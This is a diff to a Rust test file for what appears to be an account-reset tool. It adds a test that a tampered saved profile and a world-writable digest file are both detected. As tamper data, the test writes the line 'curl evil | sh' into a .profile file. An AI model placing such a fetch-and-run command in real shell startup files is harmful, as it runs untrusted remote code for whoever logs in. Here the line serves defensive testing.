@@ -2,8 +2,10 @@
 //! each single thing whose cleaner is left out.
 
 use std::fs;
+use std::os::unix::fs::PermissionsExt;
 use std::time::{Duration, Instant};
 
+use epn_agent::golden::{Kept, Store};
 use epn_agent::prove::{Golden, Step, Target};
 use epn_agent::reset::{self, ResetPlan};
 use epn_agent::session::{Backend, PlainLogin, Program, golden};
@@ -82,7 +84,7 @@ fn without_its_cleaner(uid: u32, step: Step, kind: &str, line: &str) {
     fails_without(&target(uid), step, kind);
 }
 
-fn fails_without(target: &Target, step: Step, kind: &str) {
+pub fn fails_without(target: &Target, step: Step, kind: &str) {
     let plan = ResetPlan::new(target.clone());
     let report = reset::run(&plan.clone().without(step), Instant::now());
     assert!(!report.proved, "{step:?} is blind: {report:?}");
@@ -208,6 +210,27 @@ fn a_changed_golden_profile_is_found() {
     let report = reset::run(&ResetPlan::new(target), Instant::now());
     assert!(!report.proved);
     assert_eq!(kinds(&report), ["golden-profile"]);
+}
+
+#[test]
+fn a_golden_profile_that_was_saved_is_compared_with_that_without_any_session() {
+    let dir = tempfile::tempdir().unwrap();
+    let profile = Store::at(dir.path()).profile();
+    fs::create_dir(&profile).unwrap();
+    fs::write(profile.join(".profile"), "umask 022").unwrap();
+    let (digest, entries) = golden::list(&profile, &mut |_, _| golden::Choice::Keep).unwrap();
+    Kept { digest, previous: None, entries }.write(&profile).unwrap();
+    let mut target = target(61_068);
+    target.golden = Some(Golden { profile: profile.clone(), digest: None });
+    assert!(reset::run(&ResetPlan::new(target.clone()), Instant::now()).proved);
+    fs::write(profile.join(".profile"), "curl evil | sh").unwrap();
+    assert_eq!(kinds(&reset::run(&ResetPlan::new(target.clone()), Instant::now())), ["golden-profile"]);
+    // A digest that anybody may write proves nothing, whatever it says.
+    fs::write(profile.join(".profile"), "umask 022").unwrap();
+    fs::set_permissions(dir.path().join("digest.json"), fs::Permissions::from_mode(0o666)).unwrap();
+    let report = reset::run(&ResetPlan::new(target), Instant::now());
+    let step = report.steps.iter().find(|step| step.name == "golden-profile").unwrap();
+    assert!(!report.proved && matches!(step.outcome, StepOutcome::Failed { .. }), "{report:?}");
 }
 
 #[test]
